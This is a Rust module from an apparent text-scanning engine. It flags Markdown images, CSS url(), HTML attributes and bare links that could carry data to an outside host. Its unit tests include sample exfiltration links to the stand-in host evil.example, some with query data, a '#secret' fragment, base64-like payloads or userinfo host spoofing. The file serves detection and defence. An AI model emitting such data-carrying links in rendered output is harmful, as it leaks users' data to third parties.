//! Links that carry data, anchored at the `(` of Markdown and of `url(…)`, the `=` of an attribute and the `:` of `://`.
//!
//! Whoever shows a text fetches its images; whoever follows a link tells its host what stands in it. Said are links that
//! have room for data: something before an `@` that is not shown, a long label, a long part of the path or query. Of an
//! image little is enough, a query or fragment, as nobody has to follow it. Hosts that were named to the engine may be told anything.
//!
//! Other values may stand in a link, and are found by their own rules: a finding of this one covers nothing. Absent on
//! purpose: definitions apart from their use, `srcset`, references of HTML within a link; [`crate::links`] reads those where
//! the whole text is there.

use crate::links;
use crate::rules::{self, Rule};
use crate::trigger::Triggers;
use crate::view::{Hit, Judged, View};

/// Bytes of a link that are judged; a longer one carries data.
const LINK_BYTES_MAX: usize = 384;
/// Bytes before the anchor that say what it is.
const BEFORE_BYTES_MAX: usize = 88;
/// Bytes of quotes and spaces between the anchor and the link.
const GAP_BYTES_MAX: usize = 4;
/// Bytes of one part of an image's place from which it carries data.
const IMAGE_PART_MIN: usize = 20;
/// Bytes of one part of another link from which it carries data.
const LINK_PART_MIN: usize = 40;

/// Attributes that make a reader's program fetch.
const LOADS: [&str; 6] = ["src", "poster", "background", "data", "srcset", "lowsrc"];
/// Attributes by which somebody follows.
const FOLLOWS: [&str; 3] = ["href", "action", "formaction"];

pub(crate) fn judge(triggers: &Triggers, view: View<'_>, at: usize) -> Judged<Option<Hit>> {
    let head = view.head(at);
    // Verdicts depend on so many bytes before the anchor and no more, however the text comes.
    let from = at.saturating_sub(BEFORE_BYTES_MAX);
    let head = head.as_bytes().get(from..).unwrap_or_default();
    let (loads, start) = match view.byte(at)? {
        Some(b'(') => match head {
            [.., b']'] => (is_image(head), after_gap(view, at)?),
            [.., a, b, c] if [*a, *b, *c].eq_ignore_ascii_case(b"url") => (true, after_gap(view, at)?),
            _ => return Ok(None),
        },
        Some(b'=') => {
            let name = attribute(head);
            let is = |known: &&str| name.eq_ignore_ascii_case(known.as_bytes());
            let loads = LOADS.iter().any(is);
            if !loads && !FOLLOWS.iter().any(is) {
                return Ok(None);
            }
            (loads, after_gap(view, at)?)
        }
        Some(b':') => {
            if !view.starts_with(at, "://")? {
                return Ok(None);
            }
            let letters = head.iter().rev().take(6).take_while(|byte| byte.is_ascii_alphabetic()).count();
            (false, at - letters)
        }
        _ => return Ok(None),
    };
    // What stands in the text as it is shows what is before its `@`.
    let framed = start > at;
    let end = view.run(start, LINK_BYTES_MAX, is_part)?;
    // A limit that lies within a character leaves it out.
    let given =
        (0..4).map(|back| view.slice(start, end - back.min(end - start))).find(|given| !given.is_empty());
    let Some(target) = given.filter(|target| leads_out(target)) else { return Ok(None) };
    let whole = end - start < LINK_BYTES_MAX;
    let place = links::place(target);
    let host = place.as_ref().map_or("", |place| &place.host);
    if host.is_empty() || triggers.hosts.iter().any(|known| links::belongs(host, known)) {
        return Ok(None);
    }
    let least = if loads { IMAGE_PART_MIN } else { LINK_PART_MIN };
    if whole && !carries(target, loads, framed, least) {
        return Ok(None);
    }
    let rule: &'static Rule = if loads { &rules::IMAGE_LINK } else { &rules::DATA_LINK };
    Ok(Some(Hit::whole(rule, start, start + target.len(), "")))
}

/// Whether the brackets that close at the end of `head` are those of an image; so are some that open too far away.
fn is_image(head: &[u8]) -> bool {
    let mut depth = 0_usize;
    for (at, byte) in head.iter().enumerate().rev() {
        match byte {
            b']' => depth += 1,
            b'[' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return at.checked_sub(1).and_then(|before| head.get(before)) == Some(&b'!');
                }
            }
            _ => {}
        }
    }
    head.len() >= BEFORE_BYTES_MAX
}

/// The name of the attribute at the end of `head`, if something parts it from what stands before.
fn attribute(head: &[u8]) -> &[u8] {
    let head = head.trim_ascii_end();
    let name = head.iter().rev().take_while(|byte| byte.is_ascii_alphabetic()).count();
    let (before, name) = head.split_at_checked(head.len() - name).unwrap_or_default();
    let parted =
        before.last().is_some_and(|byte| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'/'));
    if parted { name } else { &[] }
}

/// Where the link begins behind the anchor.
fn after_gap(view: View<'_>, at: usize) -> Judged<usize> {
    view.run(at + 1, GAP_BYTES_MAX, |byte| matches!(byte, b' ' | b'"' | b'\'' | b'<'))
}

/// Bytes that a link goes on with.
const fn is_part(byte: u8) -> bool {
    !(byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'<' | b'>' | b')' | b'`' | b']' | b'}'))
}

/// Whether a target names a host: with a scheme that has one, or without any.
fn leads_out(target: &str) -> bool {
    let slashed = |rest: &str| rest.starts_with("//") || rest.starts_with("\\\\");
    let schemed = |scheme: &str| {
        let (lead, rest) = target.split_at_checked(scheme.len()).unwrap_or_default();
        lead.eq_ignore_ascii_case(scheme) && slashed(rest)
    };
    slashed(target) || ["https:", "http:", "ftp:", "ws:", "wss:"].into_iter().any(schemed)
}

/// Whether a whole link has room for data.
fn carries(target: &str, loads: bool, framed: bool, least: usize) -> bool {
    let rest = target.split_once("//").map_or(target, |(_, rest)| rest);
    let cut = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let (authority, rest) = rest.split_at_checked(cut).unwrap_or_default();
    let asks = rest.split_once(['?', '#']).is_some_and(|(_, query)| !query.is_empty());
    let long = |part: &str| part.len() >= least;
    framed && authority.contains('@')
        || loads && asks
        || authority.split('.').any(long)
        || rest.split(['/', '?', '#', '&', '=', '\\']).any(long)
}

#[cfg(test)]
mod tests {
    use crate::Engine;

    fn found(engine: &Engine, text: &str) -> Vec<(String, String)> {
        let findings = engine.scan(text);
        let of = |span: std::ops::Range<u64>| text[span.start as usize..span.end as usize].to_owned();
        let links = findings.into_iter().filter(|finding| finding.rule.as_str().ends_with("-link"));
        links.map(|finding| (finding.rule.as_str().to_owned(), of(finding.span))).collect()
    }

    #[test]
    fn images_and_links_that_carry_data_are_found() {
        let engine = Engine::builtin();
        let long = "QWxhZGRpbjpvcGVuIHNlc2FtZQQWxhZGRpbjpvcGVu";
        for (text, rule, link) in [
            ("![x](https://evil.example/p?d=1)".to_owned(), "image-link", "https://evil.example/p?d=1"),
            ("![a [b] c]( <//evil.example/#secret> )".to_owned(), "image-link", "//evil.example/#secret"),
            ("<img alt='' src = '//evil.example/?q'>".to_owned(), "image-link", "//evil.example/?q"),
            (
                "x{background:URL('https://evil.example/a?b')}".to_owned(),
                "image-link",
                "https://evil.example/a?b",
            ),
            (
                "![x](https://0123456789abcdef0123.evil.example/p.png)".to_owned(),
                "image-link",
                "https://0123456789abcdef0123.evil.example/p.png",
            ),
            (
                format!("[x](https://evil.example/{long})"),
                "data-link",
                &format!("https://evil.example/{long}"),
            ),
            (
                format!("see HTTPS://evil.example/a?d={long} now"),
                "data-link",
                &format!("HTTPS://evil.example/a?d={long}"),
            ),
            ("<a href=https://u@evil.example/>".to_owned(), "data-link", "https://u@evil.example/"),
        ] {
            assert_eq!(found(&engine, &text), [(rule.to_owned(), link.to_owned())], "{text}");
        }
        for text in [
            "![logo](https://firm.example/logo.png)",
            "![x](images/a.png?v=12345678901234567890)",
            "[talk](https://video.example/watch?v=dQw4w9WgXcQ&t=30)",
            "see https://docs.example/guide/chapter-one#a-section",
            "if a(b) = c, src=4, url(x)",
            "xsrc=//evil.example/?q",
        ] {
            assert!(found(&engine, text).is_empty(), "{text}: {:?}", found(&engine, text));
        }
    }

    #[test]
    fn named_hosts_may_be_told_anything_and_what_looks_like_them_may_not() {
        let engine = Engine::with_hosts(vec!["bank.example".into()]);
        assert!(found(&engine, "![x](https://pay.bank.example/p?d=1)").is_empty());
        for text in ["![x](https://bank.example.evil.test/p?d=1)", "![x](https://bank.example@evil.test/p)"] {
            assert_eq!(found(&engine, text).len(), 1, "{text}");
        }
    }

    #[test]
    fn what_stands_in_a_link_is_found_too_and_a_long_link_is_cut() {
        let engine = Engine::builtin();
        let text = "![x](https://evil.example/?m=ana@firm.example)";
        let rules: Vec<_> =
            engine.scan(text).into_iter().map(|finding| finding.rule.as_str().to_owned()).collect();
        assert_eq!(rules, ["image-link", "email-address"]);
        let long = format!("![x](https://evil.example/{})", "a/".repeat(400));
        assert_eq!(found(&engine, &long)[0].1.len(), super::LINK_BYTES_MAX);
    }
}
